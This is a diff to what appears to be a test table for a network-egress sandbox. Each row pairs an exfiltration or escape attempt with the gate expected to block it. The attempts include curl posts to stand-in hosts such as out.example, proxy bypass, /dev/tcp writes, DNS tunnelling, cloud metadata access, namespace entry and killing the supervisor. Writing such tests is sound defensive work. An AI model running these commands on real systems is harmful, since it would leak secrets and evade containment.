@@ -1,3 +1,4 @@
+# ruff: noqa: E501  # a script is a line
 """Ways by which a command could send: each is caught by a gate, or makes coverage incomplete, or is
 closed. A way that somebody found becomes a row.
 
@@ -17,7 +18,7 @@ TCP = "s = socket.socket(); s.setblocking(False)\n"
 UNIX = "s = socket.socket(socket.AF_UNIX)\n"
 C = "import ctypes, os; libc = ctypes.CDLL(None, use_errno=True); libc.syscall.restype = ctypes.c_long\n"
 QUERY = "b'\\1\\2\\1\\0\\0\\1\\0\\0\\0\\0\\0\\0\\6secret\\4evil\\7example\\0\\0\\1\\0\\1'"
-CURL = "curl -sk -m 5"
+CURL, CURL_OUT = "curl -sk -m 60", "curl -sk -m 5"  # the latter where nobody answers
 
 
 def refused(what: str) -> str:
@@ -48,10 +49,10 @@ WEB: dict[str, tuple[str, str]] = {
     "a post": ("to out.example", f"sh:{CURL} -d secret http://out.example/"),
     "an upload": ("to out.example", f"sh:echo secret | {CURL} -T - http://out.example/"),
     "a host of a profile": ("to cdn.cribl.io", f"sh:{CURL} https://cdn.cribl.io/telemetry/index.html?v=1"),
-    "without the proxy": (f"to {OUT}", f"sh:{CURL} --noproxy '*' http://{OUT}/secret"),
-    "by NO_PROXY": (f"to {OUT}", f"sh:NO_PROXY='*' no_proxy='*' {CURL} http://{OUT}/secret"),
-    "without variables": (f"to {OUT}", f"sh:env -i /usr/bin/{CURL} http://{OUT}/secret"),
-    "http2 without tls": ("to ", f"sh:{CURL} --http2-prior-knowledge --noproxy '*' http://{OUT}/"),
+    "without the proxy": (f"to {OUT}", f"sh:{CURL_OUT} --noproxy '*' http://{OUT}/secret"),
+    "by NO_PROXY": (f"to {OUT}", f"sh:NO_PROXY='*' no_proxy='*' {CURL_OUT} http://{OUT}/secret"),
+    "without variables": (f"to {OUT}", f"sh:env -i /usr/bin/{CURL_OUT} http://{OUT}/secret"),
+    "http2 without tls": ("to ", f"sh:{CURL_OUT} --http2-prior-knowledge --noproxy '*' http://{OUT}/"),
     "http 0.9": (f"to {OUT}", f"s = socket.create_connection(('{OUT}', 80)); s.send(b'GET /secret\\r\\n'); s.close()"),
     "half a request": (f"to {OUT}", f"s = socket.create_connection(('{OUT}', 80)); s.send(b'POST /secret HT'); s.close()"),
     "no byte": (f"to {OUT}", f"s = socket.create_connection(('{OUT}', 443)); s.close()"),
@@ -65,14 +66,14 @@ WEB: dict[str, tuple[str, str]] = {
         "try: c.wrap_socket(s, server_hostname='secret.example')\nexcept OSError: pass"),
     "raw tls": ("to ", f"sh:timeout 4 openssl s_client -connect {OUT}:443 </dev/null"),
     "tls of a mail server": ("other_port", f"sh:timeout 3 openssl s_client -starttls smtp -connect {OUT}:25 </dev/null"),
-    "dns over https": (f"to {OUT}", f"sh:{CURL} --noproxy '*' 'https://{OUT}/dns-query?dns=c2VjcmV0'"),
+    "dns over https": (f"to {OUT}", f"sh:{CURL_OUT} --noproxy '*' 'https://{OUT}/dns-query?dns=c2VjcmV0'"),
     "ipv6": (f"to {OUT6}", f"s = socket.create_connection(('{OUT6}', 80)); s.send(b'x'); s.close()"),
     "ipv4 in ipv6": (f"to {OUT}", "s = socket.socket(socket.AF_INET6)\n"
         f"s.connect(('::ffff:{OUT}', 443)); s.send(b'x'); s.close()"),
     "another proxy outside": ("to ", f"s = socket.create_connection(('{OUT}', 80))\n"
         "s.send(b'CONNECT secret.example:443 HTTP/1.1\\r\\nhost: secret.example\\r\\n\\r\\n'); s.close()"),
     "another port by the proxy": ("to out.example", f"sh:{CURL} -p http://out.example:8080/secret"),
-    "node": ("to out.example", "sh:node -e \"fetch('https://out.example/secret').catch(() => 0)\""),
+    "node": (way.LOOKUP, "sh:node -e \"fetch('https://out.example/secret').catch(() => 0)\""),
     "perl": (f"to {OUT}", f"sh:perl -MIO::Socket::INET -e 'IO::Socket::INET->new(\"{OUT}:80\")->print(\"x\")'"),
     "php": (f"to {OUT}", f"sh:timeout 5 php -r '@file_get_contents(\"http://{OUT}/secret\");'"),
     "bash": (f"to {OUT}", f"sh:bash -c 'echo secret >/dev/tcp/{OUT}/80'"),
@@ -96,6 +97,8 @@ PORTS: dict[str, tuple[str, str]] = {
     "metadata of a cloud": (way.LINK_LOCAL, f"{TCP}s.connect_ex(('169.254.169.254', 80))"),
     "where no way leads": (way.UNREACHED, f"{TCP}s.connect_ex(('{NO_WAY}', 443))"),
     "where no way leads, another port": (way.UNREACHED, f"{TCP}s.connect_ex(('{NO_WAY}', 8443))"),
+    "a server for other machines": (CLOSED, "l = socket.create_server(('', 0)); s = socket.socket(); s.bind(('10.0.0.2', 0)); s.settimeout(1)\n"
+        "try: s.connect(('127.0.0.1', l.getsockname()[1]))\nexcept TimeoutError: sys.exit(7)"),
     "fast open": (CLOSED, refused(f"socket.socket().sendto(b'x', 0x20000000, ('{OUT}', 443))")),
     "a static program": (way.OTHER_PORT, """c:
 static long call(long n, long a, long b, long c) { long r; __asm__ volatile("syscall"
@@ -167,7 +170,7 @@ OTHERS: dict[str, tuple[str, str]] = {
     "a helper, another root": (way.LOCAL, f"import os; os.chroot(HELPER)\n{stream('\"/stream\"')}"),
     "a helper, datagrams": (way.LOCAL, "s = socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM); s.sendto(b'x', HELPER + '/datagrams')"),
     "a helper, packets": (way.LOCAL, "s = socket.socket(socket.AF_UNIX, socket.SOCK_SEQPACKET); s.connect(HELPER + '/packets'); s.send(b'x')"),
-    "a helper that is slow": (way.LOCAL, f"{UNIX}s.settimeout(2)\ntry: s.connect(HELPER + '/slow')\nexcept OSError: pass"),
+    "a helper that is slow": (way.LOCAL, f"import signal; signal.alarm(3)\n{UNIX}s.connect(HELPER + '/slow')"),
     "a helper's connection": (way.LOCAL, f"{UNIX}s.connect(HELPER + '/stream')\n"
         "fd = socket.recv_fds(s, 1, 1)[1][0]; socket.socket(fileno=fd).send(b'x')"),
     "docker": (way.DAEMON, stream("HELPER + '/docker.sock'")),
@@ -197,17 +200,17 @@ SOCKETS: dict[str, tuple[str, str]] = {
     "vsock": socket_of(40, 1), "bluetooth": socket_of(31, 1, 3), "can": socket_of(29, 3, 1),
     "tipc": socket_of(30, 2), "xdp": socket_of(44, 3), "smc": socket_of(43, 1), "rds": socket_of(21, 5),
     "io_uring": (CLOSED, calls(425, 8, "ctypes.create_string_buffer(120)")),
-    "a network of its own": (way.OTHER_NETWORK, f"sh:unshare -rn sh -c 'ip link set lo up; ip route add default dev lo; bash -c \"echo x >/dev/tcp/{OUT}/443\"'"),
+    "a network of its own": (way.OTHER_NETWORK, f"sh:unshare -rn sh -c 'ip link set lo up; ip route add default dev lo; timeout 2 bash -c \"echo x >/dev/tcp/{OUT}/443\"'"),
     "an interface": (CLOSED, "sh:ip link add v0 type vxlan id 5 remote 203.0.114.9 dstport 4789 || exit 7"),
     "a route": (CLOSED, "sh:ip route add 127.9.0.0/16 via 10.0.0.1 || exit 7"),
     "the firewall": (CLOSED, "sh:nft add table ip t2 || exit 7"),
     "a network's file system": (CLOSED, "sh:mount -t nfs -o addr=203.0.114.9,vers=3,nolock 203.0.114.9:/x /mnt || exit 7"),
-    "another network": (CLOSED, f"{C}import sys\nfd = os.open(f'/proc/{{VICTIM}}/ns/net', 0); r = libc.setns(fd, 0x40000000); sys.exit(7 if r else 0)"),
+    "another network": (CLOSED, refused("import os; os.setns(os.open(f'/proc/{VICTIM}/ns/net', 0), 0x40000000)")),
 }  # fmt: skip
 
 PROCESSES: dict[str, tuple[str, str]] = {
     "a daemon": (way.DATAGRAMS, "import os, time\n"
-        f"if os.fork(): os._exit(0)\nos.setsid()\nif os.fork(): os._exit(0)\ntime.sleep(.5)\n{UDP}u.sendto(b'x', ('{OUT}', 4433))"),
+        f"if os.fork(): time.sleep(1); os._exit(0)\nos.setsid()\nif os.fork(): os._exit(0)\ntime.sleep(.5)\n{UDP}u.sendto(b'x', ('{OUT}', 4433))"),
     "a child that stays": ("descendants", "sh:setsid sleep 300 >/dev/null 2>&1 & exit 0"),
     "nohup": ("descendants", "sh:nohup sh -c 'sleep 300; curl http://out.example/' >/dev/null 2>&1 &"),
     "a process namespace": (way.DATAGRAMS, f"sh:unshare -rpf bash -c 'echo x >/dev/udp/{OUT}/4433'"),
@@ -219,7 +222,7 @@ PROCESSES: dict[str, tuple[str, str]] = {
         "sys.exit(7 if libc.process_vm_writev(VICTIM, l, 1, r, 1, 0) < 0 else 0)"),
     "another program's socket": (CLOSED, calls(438, "os.pidfd_open(VICTIM)", "TAKEN", 0)),
     "a signal to another program": (CLOSED, refused("import os; os.kill(VICTIM, 18)")),
-    "the end of telemock": (CLOSED, refused("import os; os.kill(os.getppid(), 9)")),
+    "the end of telemock": (CLOSED, refused("import os; up = open(f'/proc/{os.getppid()}/stat').read().rpartition(')')[2]; os.kill(int(up.split()[1]), 9)")),
     "typing into the terminal": (CLOSED, refused("import fcntl; fcntl.ioctl(0, 0x5412, b'x')")),
     "the kernel's keys": (CLOSED, calls("249 if os.uname().machine == 'x86_64' else 218", "b'dns_resolver'", "b'secret.evil.example'", "b''", -4)),
     "the kernel's helpers": (CLOSED, refused("open('/proc/sys/kernel/core_pattern', 'w').close()")),
@@ -257,6 +260,8 @@ HARMLESS: dict[str, str] = {
         "urllib.request.urlopen(f'http://127.0.0.1:{s.server_port}/').read()",
     "a server of a child's": "sh:cd $(mktemp -d) && python3 -m http.server -b 127.0.0.1 8099 >/dev/null 2>&1 & s=$!\n"
         "for i in 1 2 3 4 5 6 7 8 9; do sleep .3; curl -s http://127.0.0.1:8099/ >/dev/null && break; done; kill $s",
+    "a server of its own, on every address": "for f, to in ((2, '127.0.0.1'), (2, '10.0.0.2'), (10, '::1'), (10, 'fd00::2')):\n"
+        "  s = socket.create_server(('', 0), family=f); c = socket.create_connection((to, s.getsockname()[1]), 5); c.send(b'x'); print(s.accept()[0].recv(1))",
     "a server of its own, ipv6": "s = socket.create_server(('::1', 0), family=10); socket.create_connection(s.getsockname()[:2])",
     "a unix server of its own": "import tempfile; at = tempfile.mkdtemp() + '/s'\n"
         "l = socket.socket(1); l.bind(at); l.listen(); s = socket.socket(1); s.connect(at); s.send(b'x'); print(l.accept()[0].recv(1))",
